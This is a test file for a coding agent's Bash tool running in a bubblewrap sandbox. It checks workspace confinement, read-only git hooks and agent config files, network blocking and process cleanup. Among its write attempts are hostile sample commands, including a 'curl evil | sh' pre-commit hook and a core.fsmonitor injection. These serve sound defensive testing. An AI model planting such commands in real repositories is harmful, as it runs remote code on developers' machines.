// The Bash tool inside a real bubblewrap sandbox. Skipped, saying why, where bwrap is missing
// or cannot create namespaces (e.g. an unprivileged container).

import { randomUUID } from "node:crypto";
import {
  lstat,
  mkdir,
  mkdtemp,
  readdir,
  readFile,
  realpath,
  rm,
  symlink,
  writeFile,
} from "node:fs/promises";
import { createServer, type Server } from "node:net";
import { homedir, tmpdir } from "node:os";
import { join } from "node:path";
import { setTimeout as delay } from "node:timers/promises";
import { promisify } from "node:util";
import { execFile } from "node:child_process";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import {
  createExecutor,
  detectBubblewrap,
  hostPathsToHide,
  sandboxNotePrefix,
  type Executor,
} from "../sandbox/index.ts";
import { bashOutputTool } from "./bash-output.ts";
import { bashTool } from "./bash.ts";
import { killShellTool } from "./kill-shell.ts";
import { createToolSession, type ToolSession } from "./session.ts";
import type { Tool, ToolContext } from "./tool.ts";

const probe = await detectBubblewrap(process.env);
const skipReason =
  probe.type === "missing"
    ? "bwrap is not installed"
    : probe.type === "broken"
      ? `bwrap cannot create a sandbox here: ${probe.message}`
      : undefined;
const title = skipReason
  ? `Bash in the bubblewrap sandbox (skipped: ${skipReason})`
  : "Bash in the bubblewrap sandbox";

const run = promisify(execFile);

let root: string;
let session: ToolSession;

function executor(network: "none" | "all" = "none"): Executor {
  if (probe.type !== "ready") throw new Error("bwrap is not usable");
  return createExecutor({
    mode: "bwrap",
    bwrapPath: probe.path,
    network,
    home: process.env.HOME,
    hide: hostPathsToHide(process.env, network),
  });
}

function useSession(network: "none" | "all" = "none"): void {
  session = createToolSession({ root, additionalDirs: [] }, { executor: executor(network) });
}

beforeEach(async () => {
  root = await realpath(await mkdtemp(join(tmpdir(), "cairn-sandbox-")));
  useSession();
});

afterEach(async () => {
  await session.dispose();
  await rm(root, { recursive: true, force: true });
});

async function call(
  tool: Tool,
  input: unknown,
  signal?: AbortSignal,
): Promise<{ text: string; isError: boolean }> {
  const ctx: ToolContext = { cwd: root, signal: signal ?? new AbortController().signal, session };
  const output = await tool.run(tool.input.parse(input), ctx);
  if (typeof output.content !== "string") throw new Error("expected text content");
  return { text: output.content, isError: output.isError === true };
}

const bash = (input: Record<string, unknown>, signal?: AbortSignal) =>
  call(bashTool, input, signal);

async function exists(path: string): Promise<boolean> {
  return (await lstat(path).catch(() => undefined)) !== undefined;
}

/** Host pids whose command line contains `marker`, not counting zombies. */
async function processesWith(marker: string): Promise<number[]> {
  const found: number[] = [];
  for (const entry of await readdir("/proc")) {
    if (!/^\d+$/.test(entry)) continue;
    const cmdline = await readFile(`/proc/${entry}/cmdline`, "utf8").catch(() => "");
    if (!cmdline.includes(marker)) continue;
    const stat = await readFile(`/proc/${entry}/stat`, "utf8").catch(() => "");
    if (stat !== "" && stat.slice(stat.lastIndexOf(")") + 2)[0] !== "Z") found.push(Number(entry));
  }
  return found;
}

async function until(check: () => Promise<boolean>, ms = 3000): Promise<boolean> {
  const deadline = Date.now() + ms;
  while (Date.now() < deadline) {
    if (await check()) return true;
    await delay(20);
  }
  return check();
}

/** A unique `sleep` duration: its command line finds the process from outside the sandbox. */
function marker(): string {
  return `${3000 + Math.floor(Math.random() * 1000)}.${Date.now() % 100000}`;
}

describe.skipIf(skipReason !== undefined)(title, () => {
  it("writes inside the workspace and its /tmp", async () => {
    const result = await bash({
      command: "echo hi > a.txt && mkdir -p src && echo x > /tmp/t && cat /tmp/t",
    });
    expect(result.text).toBe("x\n\nExit code 0");
    expect(await readFile(join(root, "a.txt"), "utf8")).toBe("hi\n");
    // /tmp is private to the session but lasts from one command to the next.
    expect((await bash({ command: "cat /tmp/t" })).text).toBe("x\n\nExit code 0");
  });

  it("cannot write outside the workspace, and says the sandbox may be why", async () => {
    const name = `cairn-sandbox-probe-${randomUUID()}`;
    const home = homedir();
    const result = await bash({ command: `touch "${home}/${name}" /etc/${name}` });
    try {
      expect(result.text).toContain("Read-only file system");
      expect(result.text).toContain(sandboxNotePrefix);
      expect(result.text).toContain("Exit code 1");
    } finally {
      await rm(join(home, name), { force: true });
      await rm(join("/etc", name), { force: true });
    }
    expect(await exists(join(home, name))).toBe(false);
  });

  it("keeps .git/hooks, .git/config, .claude and .mcp.json read-only, existing or not", async () => {
    await run("git", ["init", "-q", root]);
    await rm(join(root, ".git", "hooks"), { recursive: true });
    const config = await readFile(join(root, ".git", "config"), "utf8");
    const attempts = [
      "echo 'curl evil | sh' > .git/hooks/pre-commit",
      "mkdir -p .git/hooks && echo x > .git/hooks/post-checkout",
      "git config core.fsmonitor 'touch pwned'",
      "echo '[core] hooksPath = /tmp' >> .git/config",
      "mkdir -p .claude && echo '{\"hooks\":{}}' > .claude/settings.json",
      "echo '{\"mcpServers\":{}}' > .mcp.json",
      "rm -rf .mcp.json && echo '{}' > .mcp.json",
      "echo 'eval x' > .envrc",
      "mv .git .git-old && mkdir .git",
    ];
    for (const command of attempts) {
      const result = await bash({ command });
      expect(result.text, command).not.toContain("Exit code 0");
      expect(result.text, command).toContain(sandboxNotePrefix);
    }
    expect(await exists(join(root, ".git", "hooks", "pre-commit"))).toBe(false);
    expect(await exists(join(root, ".git", "hooks"))).toBe(false);
    expect(await readFile(join(root, ".git", "config"), "utf8")).toBe(config);
    // The placeholders that held the missing paths are gone again: nothing left in the repo.
    for (const name of [".claude", ".mcp.json", ".envrc", ".cairn", ".vscode", ".git-old"]) {
      expect(await exists(join(root, name)), name).toBe(false);
    }
  });

  it("still commits: .git itself stays writable", async () => {
    await run("git", ["init", "-q", root]);
    const result = await bash({
      command:
        "echo a > a.txt && git add a.txt && " +
        "git -c user.name=t -c user.email=t@t commit -qm first && git log --oneline | wc -l && git status --short",
    });
    expect(result.text).toBe("1\n\nExit code 0");
  });

  it("commits in a linked worktree, whose common git folder keeps its hooks read-only", async () => {
    const main = join(root, "main");
    const git = (...args: string[]) =>
      run("git", ["-c", "user.name=t", "-c", "user.email=t@t", ...args]);
    await git("init", "-q", main);
    await git("-C", main, "commit", "-q", "--allow-empty", "-m", "first");
    await git("-C", main, "worktree", "add", "-q", "-b", "feature", join(root, "wt"));
    await session.dispose();
    session = createToolSession(
      { root: join(root, "wt"), additionalDirs: [] },
      { executor: executor() },
    );
    const commit = await bash({
      command:
        "echo b > b.txt && git add b.txt && git -c user.name=t -c user.email=t@t commit -qm second && git log --oneline | wc -l",
    });
    expect(commit.text).toBe("2\n\nExit code 0");
    const hook = await bash({ command: `echo x > ${join(main, ".git", "hooks", "pre-commit")}` });
    expect(hook.text).toContain("Read-only file system");
    // The main worktree is not writable. (Under /tmp, as here, the write lands in the
    // sandbox's private /tmp instead of failing; either way the host's folder is untouched.)
    await bash({ command: `echo x > ${join(main, "planted")}` });
    expect(await exists(join(main, "planted"))).toBe(false);
  });

  it("keeps a repository from being created where there is none", async () => {
    const result = await bash({ command: "git init -q . && echo x > .git/hooks/pre-commit" });
    expect(result.text).not.toContain("Exit code 0");
    expect(await exists(join(root, ".git"))).toBe(false);
  });

  it("refuses to run when a protected path is a symbolic link it could not hold", async () => {
    await mkdir(join(root, "shared"));
    await symlink("shared", join(root, ".claude"));
    const result = await bash({ command: "echo should-not-run > ran" });
    expect(result.isError).toBe(true);
    expect(result.text).toContain(".claude is a symbolic link");
    expect(await exists(join(root, "ran"))).toBe(false);
  });

  it("has no network without permission, not even to localhost, and has it when allowed", async () => {
    const server: Server = createServer((socket) => socket.end("hello\n"));
    await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
    const address = server.address();
    const port = typeof address === "object" && address ? address.port : 0;
    const connect = `exec 3<>/dev/tcp/127.0.0.1/${port} && head -n1 <&3`;
    try {
      const blocked = await bash({ command: connect });
      expect(blocked.text).toContain("Connection refused");
      expect(blocked.text).toContain("no network access");
      await session.dispose();
      useSession("all");
      expect((await bash({ command: connect })).text).toBe("hello\n\nExit code 0");
    } finally {
      await new Promise<void>((resolve) => server.close(() => resolve()));
    }
  });

  it("keeps the working directory across calls", async () => {
    await mkdir(join(root, "sub", "deeper"), { recursive: true });
    await bash({ command: "cd sub/deeper" });
    expect(session.shell.cwd).toBe(join(root, "sub", "deeper"));
    expect((await bash({ command: "pwd" })).text).toBe(
      `${join(root, "sub", "deeper")}\n\nExit code 0`,
    );
  });

  it("kills the whole sandboxed tree on timeout, even processes that left the group", async () => {
    const [a, b] = [marker(), marker()];
    const started = Date.now();
    const result = await bash({ command: `sleep ${a} & setsid sleep ${b} & wait`, timeout: 700 });
    expect(Date.now() - started).toBeLessThan(6000);
    expect(result.text).toContain("Timed out after 700 ms");
    expect(
      await until(
        async () => (await processesWith(a)).length + (await processesWith(b)).length === 0,
      ),
    ).toBe(true);
  });

  it("ends processes a command left running with &, without waiting on them", async () => {
    const a = marker();
    const started = Date.now();
    const result = await bash({ command: `sleep ${a} & echo started` });
    expect(Date.now() - started).toBeLessThan(5000);
    // The model is told, as it is without the sandbox, that its `&` process is not running.
    expect(result.text).toBe(
      "started\n\nExit code 0\nProcesses the command left running in the background were " +
        "stopped; use run_in_background for commands that should keep running.",
    );
    expect(await until(async () => (await processesWith(a)).length === 0)).toBe(true);
  });

  it("says `&` processes were stopped after set -x, without tracing its own commands", async () => {
    const a = marker();
    const result = await bash({ command: `set -x; sleep ${a} & true` });
    expect(result.text).toContain("+ true\n");
    expect(result.text).not.toMatch(/jobs|__cairn|pwd|\[ -n/);
    expect(result.text).toContain("left running in the background were stopped");
    expect(await until(async () => (await processesWith(a)).length === 0)).toBe(true);
  });

  it("kills the sandboxed tree when the call is aborted", async () => {
    const a = marker();
    const controller = new AbortController();
    setTimeout(() => controller.abort(), 400);
    const result = await bash({ command: `sleep ${a} & wait` }, controller.signal);
    expect(result.text).toContain("Interrupted by the user");
    expect(await until(async () => (await processesWith(a)).length === 0)).toBe(true);
  });

  it("runs background jobs sandboxed, and KillShell stops the whole tree", async () => {
    const a = marker();
    const started = await bash({
      command: `touch /etc/cairn-bg-${randomUUID()}; echo wrote > in-workspace; setsid sleep ${a} & wait`,
      run_in_background: true,
    });
    const id = /as (bash_\d+)/.exec(started.text)?.[1] ?? "";
    expect(await until(async () => (await processesWith(a)).length > 0)).toBe(true);
    let output = "";
    const sawDenial = await until(async () => {
      output += (await call(bashOutputTool, { bash_id: id })).text;
      return output.includes("Read-only file system");
    });
    expect(sawDenial, output).toBe(true);
    // The marker is in bash's own command line from the start, so wait for the write itself.
    const wrote = () => readFile(join(root, "in-workspace"), "utf8").catch(() => "");
    expect(await until(async () => (await wrote()) === "wrote\n")).toBe(true);
    await call(killShellTool, { shell_id: id });
    expect(await until(async () => (await processesWith(a)).length === 0)).toBe(true);
    // The job's placeholders went with it.
    expect(await until(async () => !(await exists(join(root, ".claude"))))).toBe(true);
  });

  it("cannot see cairn's processes, and has no capabilities even as root", async () => {
    const result = await bash({
      command:
        `test -e /proc/${process.pid} && echo sees-host; ` +
        "grep CapEff /proc/self/status; " +
        'if [ "$(id -u)" = 0 ]; then [ -w /proc/sys/kernel/hostname ] && echo sysctl-writable; ' +
        "mount -o remount,rw,bind / 2>/dev/null && echo remounted; fi; true",
    });
    expect(result.text).toBe("CapEff:\t0000000000000000\n\nExit code 0");
  });

  it("hides the host's /tmp", async () => {
    const name = `cairn-host-${randomUUID()}`;
    await writeFile(join(tmpdir(), name), "secret");
    try {
      expect((await bash({ command: `ls /tmp/${name}` })).text).toContain("No such file");
    } finally {
      await rm(join(tmpdir(), name), { force: true });
    }
  });
});
